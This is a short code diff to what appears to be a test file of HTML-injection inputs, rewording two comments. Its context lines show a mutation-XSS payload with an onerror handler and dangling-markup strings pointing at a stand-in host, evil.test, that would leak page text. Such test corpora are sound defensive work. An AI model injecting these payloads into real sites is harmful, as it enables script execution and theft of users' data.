@@ -147,7 +147,7 @@ const mutations = [
   `${'<b>'.repeat(600)}<img src=x onerror=${run}>`,
 ];
 
-/** Markup that swallows the text after it, or shadows what scripts look for. */
+/** Markup that swallows the text after it, or shadows names that scripts look up. */
 const dangling = [
   `<img src='//evil.test/?`,
   `<a href='//evil.test/?`,
@@ -168,7 +168,7 @@ const dangling = [
 ];
 
 /**
- * Text that closes the string, line, script or comment around it, or that looks different from what
+ * Text that closes the string, line, script or comment around it, or that does not look like what
  * it is.
  */
 const ends = [
